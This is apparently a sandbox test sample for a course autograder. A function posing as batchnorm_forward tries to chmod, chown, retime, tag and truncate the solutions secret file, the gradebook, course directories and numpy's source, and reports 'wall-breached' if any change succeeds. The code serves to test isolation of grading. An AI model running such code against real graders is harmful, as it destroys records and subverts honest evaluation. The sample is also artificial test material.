FAMILY = "planting files"
ABOUT = "Changes owner, mode, times and attributes of files that it can only name."
MOST = 0

# %% batchnorm_forward
import os

def batchnorm_forward(x, gamma, beta, bn_param):
    done = []
    for path in ("@SOLUTIONS@/secret.txt", "@COURSE@/gradebook.db", "@COURSE@", "@OPEN@", np.__file__):
        for change in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, os.getuid(), -1), lambda: os.utime(path, (1, 1)),
                       lambda: os.setxattr(path, "user.left", b"x"), lambda: os.truncate(path, 0)):
            try:
                change()
                done.append(path)
            except OSError:
                pass
    raise RuntimeError("wall" + "-breached" if done else "nothing")
